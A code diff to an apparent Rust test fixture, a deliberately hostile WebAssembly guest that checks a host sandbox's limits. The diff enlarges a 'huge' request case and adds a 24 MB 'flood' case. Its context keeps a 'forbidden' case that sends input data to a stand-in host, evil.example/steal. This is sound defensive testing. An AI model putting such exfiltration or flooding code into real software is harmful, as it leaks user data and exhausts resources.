@@ -7,7 +7,8 @@
 //! | `loop`         | spins forever (fuel or the wall-clock deadline stop it)  |
 //! | `memory`       | allocates 1 MiB blocks until the memory cap stops it     |
 //! | `trap`         | panics                                                   |
-//! | `huge`         | returns 10 MB of requests                                |
+//! | `huge`         | returns 10.5 MB of requests (7 bodies of 1.5 MB)         |
+//! | `flood`        | returns 24 MB of requests (over the host's copy budget)  |
 //! | `forbidden`    | asks for a host outside its egress list                  |
 //! | `plain-http`   | asks for `http://` on its declared host                  |
 //! | `endless`      | asks for another request after every response            |
@@ -56,9 +57,17 @@ impl Guest for Hostile {
             }
             "trap" => panic!("hostile transform panicking on purpose"),
             "huge" => {
-                // Over the 1 MiB body limit, within the request count.
-                let body = "x".repeat((1 << 20) + 1);
-                let reqs = (0..4).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
+                // 10.5 MB in all: seven bodies of 1.5 MB, each over the 1 MiB
+                // body limit, within the request count limit.
+                let body = "x".repeat(3 << 19);
+                let reqs = (0..7).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
+                Ok(send(reqs))
+            }
+            "flood" => {
+                // 24 MB of output in one step: more than the host lets one
+                // call copy out of the guest (hostcall budget).
+                let body = "y".repeat(1_200_000);
+                let reqs = (0..20).map(|_| Request::post(&target()).body("text/plain", body.clone())).collect();
                 Ok(send(reqs))
             }
             "forbidden" => Ok(send(vec![Request::post("https://evil.example/steal").json(&serde_json::json!({"e": input.body}))])),
